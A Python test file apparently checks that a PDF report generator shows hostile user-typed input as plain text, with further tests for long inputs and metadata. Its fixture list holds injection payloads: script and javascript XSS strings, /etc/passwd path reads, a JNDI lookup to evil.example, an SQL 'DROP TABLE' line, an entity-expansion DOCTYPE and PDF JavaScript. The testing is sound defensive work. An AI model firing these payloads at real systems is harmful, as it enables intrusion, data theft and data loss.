"""What people typed to break a report stands in it as text."""

import time

import pytest

from tests.reports import reading, samples, sealed, structure

TYPED = (
    *("<b>bold", "</b>", "<i><b>crossed</i></b>", "<para>text</para>", "<para", "<"),
    *("</para><para>", "<br/>", "<br>", "&lt;b&gt;", "&amp;", "&", "&#x41;", "&bogus;"),
    *("<img src='/etc/passwd'/>", '<img src="http://evil.example/x.png">'),
    *("<img src='file:///etc/passwd' width='10'/>", "<img/>", "<svg onload=alert(1)>"),
    *("<a href='javascript:alert(1)'>here</a>", "javascript:alert(1)"),
    *('<a href="http://evil.example">here</a>', "http://evil.example/?a=1&b=2"),
    *("<script>alert(1)</script>", "<font name='Nowhere' size='9999'>huge</font>"),
    *(
        "<font color='red'>",
        "<seq id='a'/>",
        "<onDraw name='x'/>",
        "<bullet>x</bullet>",
    ),
    *("<index item='x'/>", "<greek>a</greek>", "<sup>1</sup>", "<unichar code='65'/>"),
    *("<!DOCTYPE a [<!ENTITY b 'c'>]>&b;", "<!--", "-->", "<![CDATA[x]]>", "<?pi?>"),
    "<!DOCTYPE lolz [<!ENTITY lol 'lol'><!ENTITY l2 '&lol;&lol;&lol;'>]>&l2;",
    *(
        "(unbalanced",
        "balanced)",
        "\\",
        "\\)",
        "\\050",
        ") Tj (",
        "EMC",
        "BT /F1 12 Tf",
    ),
    *("endstream endobj", "%%EOF", "<</S/JavaScript/JS(app.alert\\(1\\))>>", "stream"),
    *("{title}", "%s %d %n", "${jndi:ldap://evil.example}", "{{ 7 * 7 }}", "{% x %}"),
    *("'; DROP TABLE reports; --", "=1+1", "../../etc/passwd", "C:\\Windows", "\u00ad"),
    *("]]>", "</rdf:li></rdf:Alt>", "</hm:DocumentNumber>", "a\u00a0b"),
)
SHOWN = {
    "a\x00b": "a[U+0000]b",
    "a\u202eb": "a[U+202E]b",
    "a\u2066b\u2069": "a[U+2066]b[U+2069]",
    "\U0001f600\U0001f468\u200d\U0001f4bb": "[U+1F600][U+1F468][U+200D][U+1F4BB]",
    "\ufffe": "[U+FFFE]",
}


def test_all_of_it_is_shown_as_it_was_typed() -> None:
    """Each in a comment, in a name, as a reason: where people can type."""
    from reports.documents.dossier.evidence import Comment  # noqa: PLC0415

    begun = time.process_time()
    assert len(TYPED) + len(SHOWN) >= 60
    comments = tuple(
        Comment("2026-11-02 09:00:00 UTC", f"who {words}"[:60], words)
        for words in TYPED
    )
    events = tuple(samples.event(at, why=words) for at, words in enumerate(TYPED))
    pdf = sealed.unsealed(samples.dossier_evidence(comments=comments, events=events))
    told = reading.text(pdf)
    for words in TYPED:
        expected = reading.squeezed(words.replace("\u00ad", "[U+00AD]"))
        assert told.count(expected) >= 2, words
    assert time.process_time() - begun < 5
    assert structure.unmarked(structure.opened(pdf)) == []


@pytest.mark.parametrize("typed", SHOWN)
def test_what_cannot_be_seen_is_shown_as_its_code_point(typed: str) -> None:
    event = samples.event(1, why=typed)
    evidence = samples.audit_evidence(first=(event,), inside=1)
    assert reading.tells(sealed.unsealed(evidence), SHOWN[typed])


@pytest.mark.parametrize(
    "typed",
    [
        "W" * 2**20,
        "word " * 20_000,
        "\n" * 100_000,
        "<" * 100_000,
        "a-" * 300_000,
        "\u0634\u0633" * 100_000,
    ],
    ids=["one word", "20,000 words", "lines", "brackets", "joints", "right to left"],
)
def test_very_long_text_costs_little_and_says_what_is_missing(typed: str) -> None:
    from reports.documents.dossier.evidence import Comment  # noqa: PLC0415

    begun = time.process_time()
    pdf = sealed.unsealed(
        samples.dossier_evidence(
            comments=(Comment("2026-11-02 09:00:00 UTC", "ds1", typed),),
            events=(samples.event(1, why=typed),),
        )
    )
    assert reading.tells(pdf, "more")
    assert time.process_time() - begun < 5


def test_a_hostile_name_breaks_no_metadata() -> None:
    from dataclasses import replace  # noqa: PLC0415

    name = "</rdf:li><x>&\x00\u202e]]>"
    version = replace(samples.VERSION, label=name)
    pdf = structure.opened(sealed.unsealed(samples.dossier_evidence(version=version)))
    packet = structure.xmp(pdf)
    assert "[U+0000][U+202E]" in structure.value(packet, "dc:title")
    assert "&lt;/rdf:li&gt;" in packet
